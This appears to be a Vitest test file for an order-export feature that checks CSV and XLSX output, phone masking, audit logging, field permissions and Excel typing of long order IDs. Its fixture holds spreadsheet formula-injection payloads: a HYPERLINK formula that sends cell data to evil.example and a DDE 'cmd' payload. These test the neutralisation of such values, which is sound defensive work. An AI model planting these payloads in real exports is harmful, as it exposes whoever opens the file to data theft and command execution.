import { EXPORT_FIELDS } from '@orderhub/contracts';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formulaSafe, minorToDecimal } from '../src/modules/exports/index.ts';
import { sampleOrder, startTestApp, type TestApp } from './helpers.ts';

let t: TestApp;

describe('order export', () => {
  beforeAll(async () => {
    t = await startTestApp();
    const orders = Array.from({ length: 230 }, (_, i) =>
      sampleOrder({
        externalOrderId: `EXP-${String(i).padStart(3, '0')}`,
        placedAt: new Date(Date.UTC(2026, 0, 9, 0, 0, 5) + i * 1000).toISOString(),
        paidAt: undefined,
        tags: i % 2 ? ['发票'] : [],
      }),
    );
    const res = await t.as('admin').post('/api/orders:batch', { orders });
    expect(res.body.created, JSON.stringify(res.body).slice(0, 300)).toBe(230);
    const formulas = await t.as('admin').post('/api/orders', formulaOrder());
    expect(formulas.status, JSON.stringify(formulas.body).slice(0, 300)).toBe(201);
    const taobao = await t.as('admin').post(
      '/api/orders',
      sampleOrder({
        externalOrderId: TAOBAO_ID,
        placedAt: '2026-03-01T16:30:00Z',
        paidAt: '2026-03-01T16:31:00Z',
      }),
    );
    expect(taobao.status, JSON.stringify(taobao.body).slice(0, 300)).toBe(201);
  });
  afterAll(async () => t?.close());

  it('converts minor units by integer arithmetic', () => {
    expect(minorToDecimal(8000)).toBe('80.00');
    expect(minorToDecimal(5)).toBe('0.05');
    expect(minorToDecimal(-1234)).toBe('-12.34');
    expect(minorToDecimal(1234, 0)).toBe('1234');
    expect(minorToDecimal(1234, 3)).toBe('1.234');
  });

  it('streams every order of the filter as CSV (past one page), masked, and audits it', async () => {
    const res = await t.as('customer_service').get('/api/exports/orders?tag=发票&tz=Asia/Shanghai');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/attachment; filename="orders-.*\.csv"/);
    const lines = String(res.body)
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toMatch(/^系统单号,平台单号,渠道,店铺,状态/);
    expect(lines).toHaveLength(1 + 115);
    const first = lines.find((l) => l.includes('EXP-001'))!;
    expect(first).toContain('80.00');
    expect(first).toContain('2026-01-09 08:00:06'); // local time in Asia/Shanghai
    expect(first).toContain('138****5678');
    expect(first).not.toContain('13812345678');
    const audit = await t.as('admin').get('/api/audit?action=order.export');
    expect(audit.body.items).toHaveLength(1);
    expect(audit.body.items[0].summary.filter.tag).toEqual(['发票']);
  });

  it('writes XLSX', async () => {
    const res = await t.app.http.inject({
      method: 'GET',
      url: '/api/exports/orders?format=xlsx&orderNo=EXP-007',
      headers: { authorization: `Bearer ${t.tokens.admin}` },
    });
    expect(res.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('订单')!;
    expect(sheet.rowCount).toBe(2);
    expect(sheet.getRow(2).getCell(1).value).toMatch(/^OH\d{11}$/);
    expect(sheet.getRow(2).getCell(2).value).toBe('EXP-007');
  });

  it('audits a phone filter masked and as a keyed hash, never in clear', async () => {
    const res = await t.as('admin').get(`/api/exports/orders?phone=${encodeURIComponent('138-1234-5678')}`);
    expect(res.status).toBe(200);
    const rows = await t.database.query<{ summary: unknown }>(
      `SELECT summary FROM audit_log WHERE action = 'order.export' ORDER BY at DESC, id DESC LIMIT 1`,
    );
    const summary = rows[0]!.summary as { filter: { phone: { masked: string; hash: string } } };
    expect(summary.filter.phone.masked).toBe('138****5678');
    expect(summary.filter.phone.hash).toMatch(/^[\w-]{20,}$/);
    const stored = JSON.stringify(rows);
    for (const s of ['13812345678', '1234-5678', '12345678', '+86']) expect(stored).not.toContain(s);
  });

  it('refuses a bad filter before the first byte', async () => {
    const res = await t.as('admin').get('/api/exports/orders?phone=138****5678');
    expect(res.status).toBe(422);
    expect(res.body.code).toBe('PHONE_INVALID');
  });
  it('neutralises text that a spreadsheet would run as a formula, and leaves numbers alone', () => {
    expect(formulaSafe('=HYPERLINK("http://x")')).toBe(`'=HYPERLINK("http://x")`);
    expect(formulaSafe("+cmd|' /C calc'!A0")).toBe(`'+cmd|' /C calc'!A0`);
    expect(formulaSafe('@SUM(1)')).toBe(`'@SUM(1)`);
    expect(formulaSafe('-1+1')).toBe(`'-1+1`);
    expect(formulaSafe('\t=1')).toBe(`'\t=1`);
    expect(formulaSafe('\r=1')).toBe(`'\r=1`);
    expect(formulaSafe('=*****')).toBe(`'=*****`);
    // Amounts, as decimal strings or numbers, stay what they are, negative ones too.
    expect(formulaSafe('-12.34')).toBe('-12.34');
    expect(formulaSafe('80.00')).toBe('80.00');
    expect(formulaSafe(-1234)).toBe(-1234);
    expect(formulaSafe('浙江省')).toBe('浙江省');
    expect(formulaSafe('a=b')).toBe('a=b');
  });

  it('exports formula-like buyer text as quoted text in CSV', async () => {
    const res = await t.as('admin').get('/api/exports/orders?orderNo=EXP-FORMULA&lang=en-US');
    expect(res.status).toBe(200);
    const records = parse(String(res.body).replace(/^\uFEFF/, ''), { columns: true }) as Record<
      string,
      string
    >[];
    expect(records).toHaveLength(1);
    const row = records[0]!;
    expect(row['Receiver']).toMatch(/^'=\*{5,}$/); // the masked name, `=*****…`
    expect(row['Province']).toBe(`'${FORMULAS.province}`);
    expect(row['City']).toBe(`'${FORMULAS.city}`);
    expect(row['District']).toBe(`'${FORMULAS.district}`);
    expect(row['Tags']).toBe(`'${FORMULAS.tags.join(', ')}`);
    expect(row['Total']).toBe('80.00');
    // In the file itself every neutralised field is quoted; no field starts with a formula character.
    const text = String(res.body);
    expect(text).toMatch(/"'=\*{5,}"/);
    expect(text).toContain(`"'-1+1, @SUM(1)"`);
    expect(text).not.toMatch(/(^|,)[=+@\r]/m);
    // A tab opens only a digit-only id (kept as text by Excel), never anything a formula could follow.
    expect(text).not.toMatch(/(^|,)"?\t(?!\d+"?(,|$))/m);
    expect(text).not.toMatch(/(^|,)-(?!\d+(\.\d+)?(,|$))/m);
  });

  it('exports formula-like buyer text as text in XLSX, and amounts as numbers', async () => {
    const res = await t.app.http.inject({
      method: 'GET',
      url: '/api/exports/orders?format=xlsx&orderNo=EXP-FORMULA&lang=en-US',
      headers: { authorization: `Bearer ${t.tokens.admin}` },
    });
    expect(res.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('Orders')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
    const cell = (name: string) => sheet.getRow(2).getCell(header.indexOf(name) + 1);
    expect(cell('Receiver').value).toMatch(/^'=\*{5,}$/);
    expect(cell('Province').value).toBe(`'${FORMULAS.province}`);
    expect(cell('City').value).toBe(`'${FORMULAS.city}`);
    expect(cell('District').value).toBe(`'${FORMULAS.district}`);
    expect(cell('Tags').value).toBe(`'${FORMULAS.tags.join(', ')}`);
    for (let c = 1; c <= header.length; c++) {
      const v = sheet.getRow(2).getCell(c).value;
      // No formula cells, and no text cell that starts like one.
      expect(typeof v === 'object' && v !== null && 'formula' in v, header[c - 1]).toBe(false);
      if (typeof v === 'string') expect(v, header[c - 1]).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(cell('Total').value).toBe(80);
    expect(cell('Discount').value).toBe(20);
    expect(cell('Total').numFmt).toBe('#,##0.00');
  });

  it('keeps an 18-digit channel order id intact when Excel opens the CSV', async () => {
    const res = await t
      .as('admin')
      .get(`/api/exports/orders?orderNo=${TAOBAO_ID}&fields=externalOrderId,total`);
    expect(res.status).toBe(200);
    const body = String(res.body);
    expect(body.startsWith('\uFEFF')).toBe(true); // Excel reads UTF-8 only with the BOM
    const [header, row] = parse(body.slice(1)) as string[][];
    expect(header).toEqual(['平台单号', '实付金额']);
    // As Excel types a CSV cell: digits become a double (an 18-digit id loses its tail); text stays.
    expect(excelCell(row![0]!)).toBe(TAOBAO_ID);
    expect(excelCell(row![1]!)).toBe(80);
    expect(excelCell(TAOBAO_ID)).not.toBe(TAOBAO_ID); // what a bare id would have become
  });

  it('writes XLSX that Excel computes with: ids as text, amounts as numbers, times as dates, a frozen header', async () => {
    const res = await t.app.http.inject({
      method: 'GET',
      url: `/api/exports/orders?format=xlsx&orderNo=${TAOBAO_ID}&tz=Asia/Shanghai`,
      headers: { authorization: `Bearer ${t.tokens.admin}` },
    });
    expect(res.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('订单')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
    const cell = (name: string) => sheet.getRow(2).getCell(header.indexOf(name) + 1);
    expect(cell('平台单号').value).toBe(TAOBAO_ID);
    expect(cell('平台单号').numFmt).toBe('@');
    expect(cell('实付金额').value).toBe(80);
    expect(cell('商品金额').value).toBe(100);
    expect(cell('状态').value).toBe('已支付');
    expect(cell('渠道').value).toBe('自建商城');
    // 16:30 UTC is 00:30 the next day in Shanghai: a date cell holding that wall-clock time.
    const placed = cell('下单时间').value as Date;
    expect(placed).toBeInstanceOf(Date);
    expect(placed.toISOString()).toBe('2026-03-02T00:30:00.000Z');
    expect(cell('下单时间').numFmt).toBe('yyyy-mm-dd hh:mm:ss');
    expect(cell('商品').value).toBe('茶具 ×1；杯 ×2');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getColumn(header.indexOf('平台单号') + 1).width).toBeGreaterThanOrEqual(20);
  });

  it('writes one row per line, with the fields asked in the order asked', async () => {
    const res = await t
      .as('admin')
      .get(
        `/api/exports/orders?orderNo=${TAOBAO_ID}&level=line&fields=sku,quantity,lineAmount,orderNo&lang=en-US`,
      );
    expect(res.status).toBe(200);
    const rows = parse(String(res.body).slice(1)) as string[][];
    expect(rows[0]).toEqual(['SKU', 'Quantity', 'Line amount', 'Order no.']);
    expect(rows.slice(1).map((r) => r.slice(0, 3))).toEqual([
      ['TEA-SET-01', '1', '64.00'],
      ['CUP-02', '2', '16.00'],
    ]);
    expect(rows[1]![3]).toMatch(/^OH\d{11}$/);
  });

  it('leaves amounts out for a reader who may not see them, even when asked', async () => {
    const res = await t
      .as('warehouse')
      .get(`/api/exports/orders?orderNo=${TAOBAO_ID}&fields=orderNo,total,status`);
    expect(res.status).toBe(200);
    const rows = parse(String(res.body).slice(1)) as string[][];
    expect(rows[0]).toEqual(['系统单号', '状态']);
  });

  it('refuses an export without fields, or with a field that does not exist, in the reader’s language', async () => {
    const none = await t.as('admin').get('/api/exports/orders?fields=');
    expect(none.status).toBe(400);
    expect(none.body.code).toBe('EXPORT_NO_FIELDS');
    expect(none.body.detail).toContain('请至少选择一个导出字段');
    const unknown = await t.as('admin').get('/api/exports/orders?fields=orderNo,secret&lang=en-US');
    expect(unknown.status).toBe(400);
    expect(unknown.body.code).toBe('EXPORT_FIELD_UNKNOWN');
    expect(unknown.body.detail).toContain('secret');
    const lineField = await t.as('admin').get('/api/exports/orders?fields=orderNo,sku');
    expect(lineField.status).toBe(400);
    expect(lineField.body.detail).toContain('按商品行导出');
    const onlyMoney = await t.as('warehouse').get('/api/exports/orders?fields=total');
    expect(onlyMoney.status).toBe(400);
    expect(onlyMoney.body.code).toBe('EXPORT_NO_FIELDS');
  });

  it('lists every field in both languages', () => {
    for (const f of EXPORT_FIELDS) {
      expect(f.zh).toMatch(/[\u4e00-\u9fff]/);
      expect(f.en).toMatch(/^[A-Z]/);
    }
  });
});

const TAOBAO_ID = '202603011234567890';

/** How Excel types a CSV cell: a leading tab or other text keeps it text; a plain number becomes a double. */
function excelCell(cell: string): string | number {
  if (cell.startsWith('\t')) return cell.slice(1);
  if (/^-?\d+(\.\d+)?$/.test(cell)) {
    const n = Number(cell);
    // Excel keeps 15 significant digits.
    return Number(n.toPrecision(15));
  }
  return cell;
}

const FORMULAS = {
  name: '=HYPERLINK("http://evil.example/?d="&A1,"点此")',
  province: '=HYPERLINK("http://evil.example","x")',
  city: "+cmd|' /C calc'!A0",
  district: '@SUM(1)',
  tags: ['-1+1', '@SUM(1)'],
};

function formulaOrder() {
  return sampleOrder({
    externalOrderId: 'EXP-FORMULA',
    placedAt: '2026-02-01T00:00:00Z',
    receiver: {
      name: FORMULAS.name,
      phone: '13812345678',
      province: FORMULAS.province,
      city: FORMULAS.city,
      district: FORMULAS.district,
      detail: '=1+1 号',
    },
    tags: FORMULAS.tags,
  });
}
